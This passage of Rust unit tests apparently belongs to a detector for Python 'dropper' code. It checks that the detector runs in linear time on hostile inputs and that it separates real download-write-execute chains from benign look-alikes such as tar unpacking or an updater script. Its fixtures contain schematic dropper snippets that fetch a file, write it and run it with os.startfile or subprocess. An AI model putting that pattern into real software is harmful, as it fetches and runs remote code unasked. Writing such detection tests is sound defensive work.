    fn hostile_lines_cost_linear_time() {
        // One long line of unclosed calls and repeated runner names.
        let mut source = String::from(
            "def runcommand(v):\n    os.system(v)\n\ndef f():\n    r = requests.get(U).text\n    ",
        );
        source.push_str(&"open(".repeat(200_000));
        source.push('\n');
        source.push_str("    ");
        source.push_str(&"runcommandX runcommand ".repeat(50_000));
        source.push('\n');
        assert_eq!(flow(&source), None);
    }

    #[test]
    fn a_generated_scope_is_read_within_bounds() {
        // Thousands of responses bound in one function, an unclosed bracket at the end:
        // the check stays linear and still sees the dropper at the top.
        let mut source = String::from(
            "def f():\n    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n    os.startfile(p)\n",
        );
        for i in 0..30_000 {
            source.push_str(&format!("    r{i} = requests.get(U{i})\n"));
        }
        source.push_str("    x = (\n");
        assert_eq!(flow(&source).map(|f| f.run_line), Some(4));
    }

    #[test]
    fn an_unrelated_program_or_an_unfetched_file_is_not_a_dropper() {
        for source in [
            // The download is unpacked by tar: tar runs, not the download.
            "def get():\n    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n    subprocess.run(['tar', 'xf', p])\n",
            // A helper script is written from a literal and started (youtube-dl's updater).
            "def update():\n    data = urlopen(U).read()\n    open(exe, 'wb').write(data)\n    open(bat, 'w').write('copy ...')\n    subprocess.Popen([bat])\n",
            // Run before it was written.
            "def f():\n    subprocess.run([p])\n    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n",
            // Read mode.
            "def f():\n    r = requests.get(U)\n    d = open(p, 'rb').read()\n    subprocess.run([p])\n",
            // Fetch in one function, run in another.
            "def a():\n    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n\ndef b():\n    subprocess.run([p])\n",
        ] {
            let ran = flow(source).map(|f| f.ran);
            assert!(
                matches!(ran, None | Some(Ran::WrittenScript { .. })),
                "{source}: {ran:?}"
            );
        }
    }
}
